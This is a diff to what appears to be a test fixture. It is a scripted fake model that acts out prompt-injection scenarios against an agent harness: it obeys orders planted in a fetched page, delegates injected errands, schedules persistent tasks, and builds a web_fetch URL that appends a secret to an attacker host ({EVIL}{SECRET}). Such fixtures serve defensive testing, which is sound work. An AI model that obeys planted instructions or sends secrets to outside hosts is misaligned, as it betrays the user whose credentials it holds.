@@ -20,10 +20,11 @@ SECRET = "hunter2"
 """What the model knows from the person, and an attacker wants to have."""
 
 _READ, _USE, _SEND, _KEEP = f"LOOK AT THE NEWS {PAGE}", "TAKE THE KEYS", "SEND: ", "MAKE A TASK: "
-_DO = re.compile(r"DO (write|run|burn|fetch) (\w+)")
+_DO = re.compile(r"DO (write|run|burn|fetch|search) (\w+)")
 _GET = re.compile(r"GET (\S+)")
-_STEP = re.compile(r"^\d+\. (write|run|burn|web_fetch) (\{.*\})$", re.MULTILINE)
-_TOOLS = {"fetch": "web_fetch"}
+_STEP = re.compile(r"^\d+\. (write|run|burn|web_fetch|search_with_claude) (\{.*\})$", re.MULTILINE)
+TOOLS = {"fetch": "web_fetch", "search": "search_with_claude"}
+"""The tools whose names are not those of their orders."""
 
 
 def order(act: str, what: str) -> str:
@@ -53,6 +54,8 @@ def kept(words: str) -> str:
 
 def arguments(act: str, what: str) -> dict[str, Any]:
     """Returns the arguments of the call that an order leads to."""
+    if act == "search":
+        return {}
     return {"url": f"{EVIL}{SECRET}{what}"} if act == "fetch" else {"what": what}
 
 
@@ -66,12 +69,15 @@ class Talked(Listing):
         self.requests: list[ModelRequest] = []
         self.answers: list[str] = []
         self.costly = False
+        self.provider = ""
+        """The provider that serves it and could search; empty for one that could not."""
         self.go_on = asyncio.Event()
         self.go_on.set()
         self._ids = count(1)
 
     def profile(self, name: str) -> ModelProfile:
-        return replace(PROFILE, name=name)
+        could = {"provider": self.provider, "searches": True} if self.provider else {}
+        return replace(PROFILE, name=name, **could)
 
     async def reply(self, request: ModelRequest) -> AsyncGenerator[ModelEvent]:
         self.requests.append(request)
@@ -92,8 +98,8 @@ class Talked(Listing):
 
     def _wanted(self, opening: str, read: str) -> Iterator[list[ToolCall]]:
         """Returns the calls of each round, as far as they are known by now."""
-        before, sends, errand = opening.partition(_SEND)
-        words, keeps, task = before.partition(_KEEP)
+        before, keeps, task = opening.partition(_KEEP)
+        words, sends, errand = before.partition(_SEND)
         if _READ in words:
             yield [self._call("web_fetch", url=PAGE)]
         orders = [*_DO.findall(words), *_DO.findall(read)]
@@ -102,19 +108,19 @@ class Talked(Listing):
         if sends or _SEND in read:
             told = errand or read.partition(_SEND)[2]
             # Whoever reads the words of the errand finds the whole address in them.
-            task = _DO.sub(_whole, told.partition("\n")[0])
-            yield [self._call("delegate", task=task)]
+            sent = _DO.sub(_whole, told.partition("\n")[0])
+            yield [self._call("delegate", task=sent)]
             orders = _DO.findall(words)
         if keeps:
             allowed = [
-                {"tool": _TOOLS.get(act, act), "arguments": arguments(act, what)}
+                {"tool": TOOLS.get(act, act), "arguments": arguments(act, what)}
                 for act, what in _DO.findall(task)
             ]
             task = task.partition("\n")[0]
             made = {"when": "in 20m", "what": task, "calls": allowed}
             yield [self._call("schedule_task", **made)]
         yield [
-            self._call(_TOOLS.get(str(act), str(act)), **arguments(act, what))
+            self._call(TOOLS.get(str(act), str(act)), **arguments(act, what))
             for act, what in orders
         ]
         yield [self._call("web_fetch", url=url) for url in _GET.findall(words)]
